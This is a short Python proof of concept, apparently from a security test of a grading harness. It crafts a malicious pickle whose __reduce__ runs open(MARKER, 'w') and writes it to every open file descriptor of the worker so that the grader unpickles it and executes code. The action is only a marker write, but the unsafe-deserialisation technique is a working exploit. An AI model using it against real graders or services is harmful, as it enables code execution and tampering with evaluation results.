# Defect 1: code execution in the grader. Write a pickle whose loading opens {MARKER} for writing
# to every open file descriptor of the worker (one of them is the channel to the grader).
import os
import pickle
import struct


class Evil:
    def __reduce__(self):
        return (open, (MARKER, "w"))


payload = pickle.dumps(("cells_done", {"errors": [], "output": ""}, Evil()))
for fd in range(3, 256):
    try:
        os.fstat(fd)
        os.write(fd, struct.pack("!i", len(payload)) + payload)
    except OSError:
        pass
